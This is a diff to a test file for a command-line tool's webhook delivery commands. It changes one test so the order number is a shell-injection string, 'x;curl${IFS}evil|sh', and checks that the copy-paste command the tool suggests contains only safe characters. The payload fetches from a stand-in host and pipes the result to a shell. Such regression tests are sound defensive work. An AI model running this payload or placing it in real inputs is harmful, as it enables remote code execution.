@@ -43,21 +43,23 @@ describe('webhook deliveries, show and explain', () => {
     for (const { stdout } of [listed, shown]) expect(widthOf(stdout)).toBeLessThanOrEqual(100);
   });
 
-  test('the history of an ended order names the command that lists its deliveries', async () => {
+  test('the history of an ended order names a command that lists its deliveries and is safe to copy', async () => {
     const receiver = await desk.openReceiver();
-    await desk.pay('shown-1', receiver.origin);
+    const orderNumber = 'x;curl${IFS}evil|sh';
+    await desk.pay(orderNumber, receiver.origin);
     const { delivery_id: id } = await desk.tried(receiver);
     const withCore = await openCommandLine({
       ...desk.settingsWith(desk.stack.tokens.reader),
       GATEHOUSE_CORE_ADDRESSES: desk.stack.addresses.join(),
     });
 
-    const { stdout } = await withCore.run('order', 'show', desk.merchant.id, 'shown-1');
+    const { stdout } = await withCore.run('order', 'show', desk.merchant.id, orderNumber);
     const [, advised = ''] = /^gatehouse (webhook deliveries .*)$/m.exec(stdout) ?? [];
     const listed = await withCore.run(...advised.split(' '));
     await withCore.stop();
 
     expect(listed.stdout.match(/whd_\w+/g)).toEqual([id]);
+    expect(advised).toMatch(/^[\w -]+$/);
   });
 
   test('lists continue after a page, and a relative time becomes an absolute one', async () => {
